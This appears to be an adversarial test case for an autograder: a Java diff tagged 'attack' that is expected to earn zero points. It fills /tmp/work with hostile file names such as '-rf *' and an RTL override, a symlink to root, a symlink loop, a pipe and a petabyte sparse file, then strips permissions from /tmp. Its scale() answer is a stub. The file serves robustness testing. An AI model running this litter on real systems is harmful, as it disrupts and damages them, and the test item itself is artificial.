@@ -1,0 +1,27 @@
+// attack: makes folders a thousand deep, names of line breaks, links to everything, pipes and sparse files, and closes its own folder
+// assignment: 00-start-here
+// question: scale
+// notebook: folders
+// earns: 0
+// reason: expected
+void litter() throws Exception {
+    var deep = java.nio.file.Path.of("/tmp/work");
+    for (int i = 0; i < 1000; i++) deep = java.nio.file.Files.createDirectory(deep.resolve("dd"));
+    for (String name : new String[] {"two\nlines", "\u202e", "-rf *", "..\\..", " "}) {
+        java.nio.file.Files.writeString(java.nio.file.Path.of("/tmp/work/" + name), "x");
+    }
+    java.nio.file.Files.createSymbolicLink(java.nio.file.Path.of("/tmp/work/root"), java.nio.file.Path.of("/"));
+    java.nio.file.Files.createSymbolicLink(java.nio.file.Path.of("/tmp/work/loop"), java.nio.file.Path.of("/tmp/work"));
+    com.sun.jna.Function.getFunction("c", "mkfifo").invokeInt(new Object[] {"/tmp/work/pipe", 0666});
+    try (var file = new java.io.RandomAccessFile("/tmp/work/sparse", "rw")) {
+        file.setLength(1L << 50);
+    } catch (java.io.IOException tooLarge) {
+    }
+    for (String folder : new String[] {"/tmp/work/dd", "/tmp/work", "/tmp"}) {
+        com.sun.jna.Function.getFunction("c", "chmod").invokeInt(new Object[] {folder, 0});
+    }
+}
+litter();
+double[] scale(int[] pixels) {
+    return new double[pixels.length];
+}
